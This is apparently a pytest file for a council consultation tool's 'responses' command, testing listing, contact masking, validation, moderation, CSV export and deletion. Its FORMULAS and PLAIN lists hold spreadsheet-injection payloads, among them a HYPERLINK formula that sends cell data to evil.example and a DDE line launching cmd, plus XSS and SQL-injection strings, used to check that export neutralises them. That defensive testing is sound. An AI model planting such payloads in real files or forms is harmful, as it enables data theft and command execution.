"""The command `responses` as an officer uses it."""

import csv
import io
import os
from collections.abc import Callable
from datetime import timedelta
from functools import partial
from pathlib import Path

import pytest

from mps import paths
from mps.responses import Answer, Book, clean
from mps.responses.codes import new_reference
from mps.responses.sheet import GUARD, guarded
from tests.consulting import BATH, SLUG, TITLE, build_tree, consultation, switch, today, write_tree
from tests.test_cli import Run

FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "=1+1\nsecond line",
    "  =1+1",
    "\uff1d1+1",
    "'=1+1",
    "|x",
    "%0A=1",
]
PLAIN = [
    "Say \"yes\", then; no\nNew line, comma",
    "<script>alert(1)</script>",
    "\"); drop table response; --",
    "It's 5 = 5, and a - b",
    "👩‍🦽 café £5 «non»",
]  # fmt: skip


@pytest.fixture(scope="module")
def tree(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("consulting")
    write_tree(root)
    switch(root, consultation(opens_in=-20, closes_in=5))
    build_tree(root)
    return root


Officer = Callable[..., tuple[str, str]]


@pytest.fixture
def mps(
    tree: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Officer:
    monkeypatch.setattr(paths, "ROOT", tree)
    monkeypatch.setenv("MPS_STORE", str(tree / "store" / "market.duckdb"))
    monkeypatch.setenv("MPS_RESPONSES", str(tmp_path / "own" / "responses.sqlite3"))
    run = Run(capsys)
    return partial(run, "responses")


def keep(text: str = "", **more: str) -> str:
    given = {"subject_kind": "whole", "subject_code": "whole", "stance": "partly", "who": "worker"}
    return Book.own().add(Answer(council_code=BATH, text=text, **{**given, **more}))


def test_list_is_empty_then_tells_of_each_without_its_words(mps: Officer) -> None:
    assert mps("list") == ("0 responses.\n", "")
    reference = keep("Words that a list does not show")
    out, _ = mps("list", "--council", SLUG)
    assert reference in out
    assert "whole" in out
    assert "partly" in out
    assert "waiting" in out
    assert "not show" not in out
    assert out.endswith("1 response.\n")
    assert mps("list", "--council", "oldham")[0] == "0 responses.\n"
    assert mps("list", "--state", "shown", "--state", "spam")[0] == "0 responses.\n"


def test_a_council_is_named_by_code_name_or_folder_and_a_wrong_one_is_said(mps: Officer) -> None:
    keep()
    for named in (BATH, "Bath and North East Somerset", SLUG, SLUG.upper()):
        assert mps("list", "--council", named)[0].endswith("1 response.\n")
    _, err = mps("list", "--council", "rotheram", status=1)
    assert "Did you mean rotherham?" in err


def test_show_masks_contacts_unless_asked(mps: Officer) -> None:
    reference = keep("Ring me on 01225 477000.")
    out, _ = mps("show", reference.lower())
    assert "[phone number left out]" in out
    assert "477000" not in out
    assert "01225 477000" in mps("show", reference, "--as-sent")[0]
    assert "There is no response" in mps("show", new_reference(), status=1)[1]
    assert "reference code" in mps("show", "nonsense", status=1)[1]


def test_add_keeps_a_letter_by_the_day_it_arrived(mps: Officer, tmp_path: Path) -> None:
    letter = tmp_path / "letter.txt"
    letter.write_text("Dear council,\r\nmore respite.", encoding="utf-8")
    arrived = today() - timedelta(days=3)
    out, _ = mps("add", "--council", SLUG, "--about", "banes-2018-closures-beds", "--stance",
                 "disagree", "--who", "unpaid_carer", "--channel", "paper",
                 "--received", arrived.isoformat(), "--text-file", str(letter))  # fmt: skip
    [kept] = Book.own().every()
    assert kept.reference in out
    assert kept.text == "Dear council,\nmore respite."
    assert (kept.channel, kept.subject_kind) == ("paper", "figure")
    assert kept.received_at.startswith(arrived.isoformat())


@pytest.mark.parametrize(
    ("wrong", "why"),
    [
        (("--about", "banes-2018-closure-beds"), "Did you mean banes-2018-closures-beds?"),
        (("--stance", "maybe"), "invalid choice: 'maybe'"),
        (("--who", "Jo Bloggs"), "invalid choice"),
        (("--channel", "online"), "invalid choice: 'online'"),
        (("--council", "nowhere"), "There is no council nowhere."),
        (("--received", (today() - timedelta(days=21)).isoformat()), "does not take responses"),
        (("--received", (today() + timedelta(days=2)).isoformat()), "does not take responses"),
        (("--received", "yesterday"), "is not a date"),
        (("--council", "oldham"), "does not take responses"),
        (("--text-file", "/nowhere"), "cannot be read"),
    ],
)
def test_add_says_what_is_wrong_and_keeps_nothing(
    mps: Officer, wrong: tuple[str, str], why: str, capsys: pytest.CaptureFixture[str]
) -> None:
    right = {"--council": SLUG, "--about": "whole", "--stance": "agree", "--who": "other",
             "--channel": "email"}  # fmt: skip
    given = [part for pair in {**right, wrong[0]: wrong[1]}.items() for part in pair]
    if "invalid choice" in why or "not a date" in why:  # said before anything is looked up
        with pytest.raises(SystemExit, match="1"):
            mps("add", *given)
        assert why in capsys.readouterr().err
    else:
        assert why in mps("add", *given, status=1)[1]
    assert not Book.own().path.exists()


def test_moderate_publishes_the_summary_and_says_what_stands(mps: Officer) -> None:
    references = [keep(f"Words of number {number}") for number in range(2)]
    out, _ = mps("moderate", *references, "--state", "shown", "--summary", "More respite.",
                 "--we-did", "Two beds.")  # fmt: skip
    assert out == f"{', '.join(references)}: shown (read; its summary is published).\n"
    assert {one.summary for one in Book.own().every()} == {"More respite."}
    _, err = mps("moderate", references[0], "--state", "shown", "--summary",
                 "Ask a.b@example.org", status=1)  # fmt: skip
    assert "hold what looks like somebody's e-mail address: a.b@example.org." in err


def test_export_gives_back_every_text_and_no_formula(mps: Officer, tmp_path: Path) -> None:
    sent = [*FORMULAS, *PLAIN]
    references = [keep(text) for text in sent]
    out = tmp_path / "out.csv"
    assert f"{len(sent)} responses written" in mps("export", "--out", str(out))[0]
    with out.open(encoding="utf-8-sig", newline="") as file:
        rows = {row["reference"]: row for row in csv.DictReader(file)}
    assert set(rows) == set(references)
    for reference, text in zip(references, sent, strict=True):
        cell = rows[reference]["text"]
        assert cell.removeprefix(GUARD) == clean(text)
        assert (cell[0] == GUARD) == (text in FORMULAS)
        assert rows[reference]["council"] == "Bath and North East Somerset"
        assert rows[reference]["subject"] == "The whole statement"
        assert rows[reference]["stance"] == "Partly agree"
    for cell in (one for row in rows.values() for one in row.values()):
        assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\uff1d", "|", "%"))
    assert guarded("") == ""
    if os.name == "posix":
        assert out.stat().st_mode & 0o077 == 0


def test_export_masks_contacts_leaves_spam_out_and_writes_over_nothing(
    mps: Officer, tmp_path: Path
) -> None:
    keep("Write to a.b@example.org about the beds.")
    spam = keep("Buy pills")
    mps("moderate", spam, "--state", "spam")
    out, _ = mps("export", "--council", SLUG)
    [row] = csv.DictReader(io.StringIO(out))
    assert row["text"] == "Write to [e-mail address left out] about the beds."
    path = tmp_path / "there.csv"
    path.write_text("mine")
    _, err = mps("export", "--out", str(path), status=1)
    assert "cannot be written: File exists" in err
    assert path.read_text() == "mine"
    assert len(list(csv.DictReader(io.StringIO(mps("export", "--state", "spam")[0])))) == 1


def test_export_without_a_store_has_the_codes(
    mps: Officer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    keep()
    monkeypatch.setenv("MPS_STORE", str(tmp_path / "none.duckdb"))
    out, err = mps("export")
    [row] = csv.DictReader(io.StringIO(out))
    assert (row["subject_code"], row["subject"]) == ("whole", "")
    assert "without their names" in err


def test_delete_and_purge_say_what_they_did(mps: Officer) -> None:
    assert mps("purge")[0] == "0 responses past the retention date deleted.\n"
    first, second = keep("one"), keep("two")
    out, err = mps("delete", first)
    assert out.startswith(f"{first} is deleted.")
    out, err = mps("delete", first, second, status=1)
    assert f"There is no response {first}." in err
    assert f"{second} is deleted." in out
    assert mps("list")[0] == "0 responses.\n"


def test_check_names_what_is_wrong_with_a_consultation(
    tree: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from mps.sources import load_council

    path = tmp_path / SLUG / "council.toml"
    path.parent.mkdir()
    text = (tree / "data" / "councils" / SLUG / "council.toml").read_text(encoding="utf-8")
    plain = text.split("\n[consultation]")[0]
    cases = {
        'responses = "yes"': "this must be true or false",
        "responses = true\ntitle = 'x'": "closes = 2027-05-06",
        "responses = true\ncloses = 2027-05-06": "Say what is consulted on.",
        "opens = 2027-06-01\ncloses = 2027-05-06": "cannot be before the first",
        "email = 'council'": "Write one address",
        "retention_months = 0": "1 to 120",
        "closess = 2027-05-06": "Did you mean closes?",
        "closes = '6 May'": "a date such as",
    }
    for table, why in cases.items():
        path.write_text(f"{plain}\n[consultation]\n{table}\n", encoding="utf-8")
        council, problems = load_council(path, "council.toml")
        assert council is None
        assert any(why in str(problem) for problem in problems), (table, problems)
        assert all(problem.row for problem in problems) or "responses = true" in table
    path.write_text(f"consultation = 5\n{plain}\n", encoding="utf-8")
    assert "a table" in str(load_council(path, "council.toml")[1][0])
    path.write_text(text, encoding="utf-8")
    council, problems = load_council(path, "council.toml")
    assert not problems
    assert council
    assert council.consultation.title == TITLE
